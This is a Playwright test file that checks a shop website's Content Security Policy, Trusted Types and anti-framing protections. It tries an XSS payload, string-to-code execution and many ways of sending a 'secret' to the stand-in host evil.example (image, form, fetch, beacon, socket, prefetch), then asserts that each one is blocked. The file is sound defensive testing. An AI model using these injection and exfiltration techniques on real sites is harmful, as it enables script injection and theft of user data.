// What the shop's pages refuse to a script that found its way in, and to a page that wants to frame them.
import type { Page } from "@playwright/test";
import { expect, test } from "./fixtures.ts";

type Attempts = Record<string, () => unknown>;
type TrustedTypes = { createPolicy(name: string, rules: object): unknown };

/** Tries everything inside the page; what came of each attempt: "done", or the kind of error. */
function tryAll(page: Page): Promise<Record<string, string>> {
  return page.evaluate(() => {
    const { trustedTypes } = window as unknown as { trustedTypes: TrustedTypes };
    const attempts: Attempts = {
      "HTML written as text": () => Object.assign(document.body, { innerHTML: "<img src=x onerror=alert(1)>" }),
      "HTML beside an element": () => document.body.insertAdjacentHTML("beforeend", "<b>a</b>"),
      "a document parsed from text": () => new DOMParser().parseFromString("<b>a</b>", "text/html"),
      "text run as code": () => window.setTimeout("window.ran = true"),
      "a script with text": () => Object.assign(document.createElement("script"), { text: "window.ran = true" }),
      "a script from elsewhere": () => Object.assign(document.createElement("script"), { src: "https://evil.example" }),
      "a policy of one's own": () => trustedTypes.createPolicy("evil", { createHTML: (text: string) => text }),
      "a frame with its own text": () => Object.assign(document.createElement("iframe"), { srcdoc: "<b>a</b>" }),
    };
    const outcome = (attempt: () => unknown): string => {
      try {
        attempt();
        return "done";
      } catch (error) {
        return (error as Error).name;
      }
    };
    return Object.fromEntries(Object.entries(attempts).map(([name, attempt]) => [name, outcome(attempt)]));
  });
}

test("Anna's page makes neither HTML nor code of text, whoever asks it to", async ({ browser, shop }) => {
  // A page outside the fixtures' context: these violations are meant.
  const page = await browser.newPage({ baseURL: shop.facts.url });
  await page.goto("/products");
  const outcomes = await tryAll(page);
  expect(Object.keys(outcomes).length).toBe(8);
  for (const [attempt, outcome] of Object.entries(outcomes)) {
    expect(outcome, attempt).toBe("TypeError");
  }
  await page.close();
});

test("Anna's page loads and sends nothing elsewhere, and runs no element that was slipped in", async ({
  browser,
  shop,
}) => {
  const page = await browser.newPage({ baseURL: shop.facts.url });
  await page.goto("/");
  const forbidden = await page.evaluate(async () => {
    const found: string[] = [];
    document.addEventListener("securitypolicyviolation", (event) => found.push(event.effectiveDirective));
    const button = document.createElement("button");
    button.setAttribute("class", "slipped-in");
    const picture = new Image();
    picture.src = "https://evil.example/pixel.png?told=secret";
    const form = document.createElement("form");
    form.action = "https://evil.example/take";
    form.method = "post";
    document.body.append(button, picture, form);
    form.submit();
    await fetch("https://evil.example/take").catch(() => undefined);
    navigator.sendBeacon("https://evil.example/take", "secret");
    const base = document.createElement("base");
    base.href = "https://evil.example/";
    document.head.append(base);
    await new Promise((done) => setTimeout(done, 100));
    return found;
  });
  expect(new Set(forbidden)).toEqual(new Set(["img-src", "form-action", "connect-src", "base-uri"]));
  await page.close();
});

/** What an extension or an injected script would do next; each way would run its code or tell elsewhere what it knows. */
function tryAsExtension(page: Page): Promise<Record<string, string>> {
  return page.evaluate(async () => {
    const evil = "https://evil.example/take";
    const code = "globalThis.ran = true";
    const added = (name: string, attributes: Record<string, string>) => {
      const element = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      document.body.append(element);
    };
    const script = (attributes: Record<string, string>) => added("script", attributes);
    const attempts: Attempts = {
      "a script element": () => script({ src: `${evil}.js` }),
      "a module": () => import(/* @vite-ignore */ `${evil}.js`),
      "a module of text": () => import(/* @vite-ignore */ `data:text/javascript,${code}`),
      "a script of a blob": () => script({ src: URL.createObjectURL(new Blob([code], { type: "text/javascript" })) }),
      "an inline script": () =>
        document.body.append(Object.assign(document.createElement("script"), { textContent: code })),
      "a handler": () => added("img", { src: "data:,", onerror: code }),
      "a function of text": () => new Function(code)(),
      "compiled WebAssembly": () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
      "a worker of a blob": () => new Worker(URL.createObjectURL(new Blob([code]))),
      "a frame": () => added("iframe", { src: evil }),
      "a frame of text": () => added("iframe", { src: `data:text/html,<script>${code}</script>` }),
      "an object": () => added("object", { data: evil }),
      "an embedded file": () => added("embed", { src: evil }),
      "a style sheet": () => added("link", { rel: "stylesheet", href: `${evil}.css` }),
      "inline style": () => added("p", { style: `background: url(${evil})` }),
      "a picture in a rule": () => {
        document.styleSheets[0]?.insertRule(`body { background: url(${evil}) }`);
      },
      "a typeface": () => new FontFace("evil", `url(${evil})`).load(),
      "a film": () => added("video", { src: evil }),
      "a socket": () => new WebSocket("wss://evil.example/take"),
      "a stream": () => new EventSource(evil),
      "a prefetch": () => added("link", { rel: "prefetch", href: evil }),
      "a form": () => {
        added("form", { action: evil, method: "post" });
        document.forms[document.forms.length - 1]?.submit();
      },
    };
    const violation = () =>
      new Promise<string>((resolve) => {
        const options = { once: true };
        document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), options);
      });
    const patience = () => new Promise<string>((resolve) => setTimeout(resolve, 3_000, "nothing stopped it"));
    const outcomes: Record<string, string> = {};
    for (const [name, attempt] of Object.entries(attempts)) {
      const reported = violation();
      try {
        await attempt();
      } catch {
        // What was thrown says less than the report.
      }
      outcomes[name] = await Promise.race([reported, patience()]);
    }
    return outcomes;
  });
}

test("a hostile script in Anna's page runs no further code, and reaches no other place", async ({ browser, shop }) => {
  const page = await browser.newPage({ baseURL: shop.facts.url });
  const reached: string[] = [];
  await page.route("https://evil.example/**", (route) => {
    reached.push(route.request().url());
    return route.fulfill({ contentType: "text/javascript", body: "globalThis.ran = true" });
  });
  await page.goto("/products");
  const outcomes = await tryAsExtension(page);
  expect(Object.entries(outcomes).filter(([, directive]) => directive === "nothing stopped it")).toEqual([]);
  expect(Object.keys(outcomes).length).toBe(22);
  expect(await page.evaluate(() => "ran" in globalThis)).toBe(false);
  expect(reached).toEqual([]);
  await page.close();
});

test("a page of somebody else's cannot frame the shop", async ({ browser, shop }) => {
  const page = await browser.newPage();
  await page.route("https://evil.example/", (route) =>
    route.fulfill({ contentType: "text/html", body: `<iframe src="${shop.facts.url}/sign-in"></iframe>` }),
  );
  await page.goto("https://evil.example/");
  const frame = page.frames()[1];
  await expect.poll(() => frame?.url()).toMatch(/^chrome-error:/);
  await page.close();
});
